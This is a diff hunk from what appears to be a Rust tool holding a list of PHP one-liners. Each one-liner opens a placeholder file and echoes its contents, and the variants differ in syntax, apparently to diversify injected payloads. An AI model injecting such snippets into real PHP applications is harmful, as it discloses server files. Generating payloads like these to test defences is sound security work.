@@ -248,7 +248,7 @@ const CHUNKS: &[&str] = &[
     "declare(ticks=1) { if ($h = @fopen(@F, 'r')) { while (!feof($h)) { echo fread($h, 8192); } } }",
     "if ($h = @fopen(@F, 'r')) { switch (true) { case true: echo fread($h, 16384); default: echo match (true) { default => fread($h, 8192) }; } }",
     "if ($h = @fopen(@F, 'r')) { stream_filter_append($h, 'string.toupper'); while (!feof($h)) { echo fread($h, 8192); } }",
-    "if ($h = @fopen(@F, 'r')) { while (ob_get_level()) { @ob_end_flush(); } for ($k = 0; $k < 300 && !feof($h); $k++) { echo fread($h, 8192); } }",
+    "if ($h = @fopen(@F, 'r')) { while (@ob_end_flush()); for ($k = 0; $k < 300 && !feof($h); $k++) { echo fread($h, 8192); } }",
     "function read~($h) { return fread($h, 8192); } if ($h = @fopen(@F, 'r')) { for ($k = 0; $k < 200 && !feof($h); $k++) { echo read~($h); } }",
 ];
 
